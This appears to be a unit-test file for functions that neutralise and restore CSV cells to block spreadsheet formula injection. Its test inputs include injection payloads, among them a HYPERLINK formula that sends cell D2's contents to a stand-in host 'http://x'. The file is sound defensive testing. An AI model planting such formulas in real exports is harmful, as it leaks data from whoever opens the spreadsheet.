import { neutraliseCsvCell, restoreCsvCell } from './csv-cell';

describe('neutraliseCsvCell', () => {
  it.each([
    ['=HYPERLINK("http://x?d="&D2,"详情")', `'=HYPERLINK("http://x?d="&D2,"详情")`],
    ['+1+1', "'+1+1"],
    ['-cmd', "'-cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\0=1', "'\0=1"],
    ['＝1+1', "'＝1+1"],
    ["'=1", "''=1"],
  ])('should prefix a quote to %j', (value, expected) => {
    expect(neutraliseCsvCell(value)).toBe(expected);
  });

  it.each(['-12.5', '-3', '12', '0.5', '', '惠民便利店', "O'Brien", "'quoted", 'a=b', ' =1'])(
    'should leave %j as it is',
    (value) => {
      expect(neutraliseCsvCell(value)).toBe(value);
    },
  );
});

describe('restoreCsvCell', () => {
  it.each([
    '=HYPERLINK("http://x?d="&D2,"详情")',
    '-cmd',
    '-12.5',
    "'=1",
    "''@x",
    "'plain",
    '',
    '\t\tindent',
  ])('should undo the neutralisation of %j', (value) => {
    expect(restoreCsvCell(neutraliseCsvCell(value))).toBe(value);
  });

  it('should keep a quote that the export did not add', () => {
    expect(restoreCsvCell("'plain")).toBe("'plain");
    expect(restoreCsvCell("'-12.5")).toBe("'-12.5");
  });
});
